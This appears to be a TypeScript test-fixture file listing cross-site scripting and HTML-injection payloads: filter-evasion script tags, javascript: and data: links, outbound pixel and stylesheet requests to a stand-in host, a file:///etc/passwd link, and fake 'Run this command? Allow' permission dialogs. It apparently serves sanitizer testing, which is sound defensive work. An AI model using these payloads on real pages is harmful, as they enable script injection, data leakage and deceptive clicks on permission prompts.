/** Texts that try to become more than text in a page: script, requests to elsewhere, dialogs that look real. */

const elsewhere = "https://elsewhere.invalid";

const scripts = [
  "<script>pwned()</script>",
  "<script src=https://elsewhere.invalid/x.js></script>",
  "<SCRIPT>pwned()</SCRIPT>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script\u0000>pwned()</script>",
  "</script><script>pwned()</script>",
  "<svg><script>pwned()</script></svg>",
  "<svg onload=pwned()>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
  "<svg><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
  "<svg><foreignObject><body onload=pwned()></foreignObject></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<template><script>pwned()</script></template>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=javascript:pwned()></iframe>",
  `<iframe src=${elsewhere}></iframe>`,
  "<object data='javascript:pwned()'></object>",
  "<embed src='javascript:pwned()'>",
  "<img src=x onerror=pwned()>",
  "<img src=x onerror='pwned()'//",
  "<img/src/onerror=pwned()>",
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '" onmouseover="pwned()" x="',
  "<video><source onerror=pwned()></video>",
  "<audio src=x onerror=pwned()>",
  "<body onload=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<details open ontoggle=pwned()>",
  "<marquee onstart=pwned()>",
  "<div style='animation:x' onanimationstart=pwned()>",
  "<button onclick=pwned()>Allow</button>",
];

const addresses = [
  "[x](javascript:pwned())",
  "[x](JaVaScRiPt:pwned())",
  "[x](java\tscript:pwned())",
  "[x](&#106;avascript:pwned())",
  "[x](javascript&colon;pwned())",
  "[x](vbscript:pwned())",
  "[x](data:text/html,<script>pwned()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
  "[x](\u0001javascript:pwned())",
  "[x](blob:https://elsewhere.invalid/1)",
  "[x](file:///etc/passwd)",
  "<javascript:pwned()>",
  "[x]: javascript:pwned()\n\n[x]",
  "<a href='javascript:pwned()'>x</a>",
  "<a href='https://elsewhere.invalid' ping='https://elsewhere.invalid'>x</a>",
  "[github.com](https://github.com@elsewhere.invalid/)",
  "[https://github.com](https://elsewhere.invalid/)",
];

const requests = [
  `![x](${elsewhere}/pixel.png)`,
  `![x](//elsewhere.invalid/pixel.png)`,
  `![x](${elsewhere}/pixel.svg "title")`,
  "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>)",
  '![x](data:image/png;base64,AAAA" onerror="pwned())',
  `<img src=${elsewhere}/pixel.png>`,
  `<img srcset="${elsewhere}/pixel.png 1x">`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<style>@import '${elsewhere}/x.css';</style>`,
  `<style>body{background:url(${elsewhere}/x)}</style>`,
  `<div style="background:url(${elsewhere}/x)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}>`,
  `<form action=${elsewhere}><input name=q><button>Allow once</button></form>`,
  `<video poster=${elsewhere}/x.png src=${elsewhere}/x.mp4 autoplay>`,
  `<input type=image src=${elsewhere}/x.png>`,
  `<table background=${elsewhere}/x.png>`,
];

/** They ask for a click with the looks of a question of kedge. */
const dialogs = [
  "<dialog open><h2>Run this command?</h2><button>Allow once</button></dialog>",
  '<div role="dialog" aria-modal="true" class="dialog permission" id="permission"><button>Allow</button></div>',
  '<div style="position:fixed;inset:0;z-index:9999">Run this command? <button>Allow</button></div>',
  "<div popover id=p>Allow?</div><button popovertarget=p>open</button>",
  "\u202e?dnammoc siht nuR\u202c",
  "\u001b]8;;https://elsewhere.invalid\u0007click\u001b]8;;\u0007",
];

export const payloads: readonly string[] = [...scripts, ...addresses, ...requests, ...dialogs];
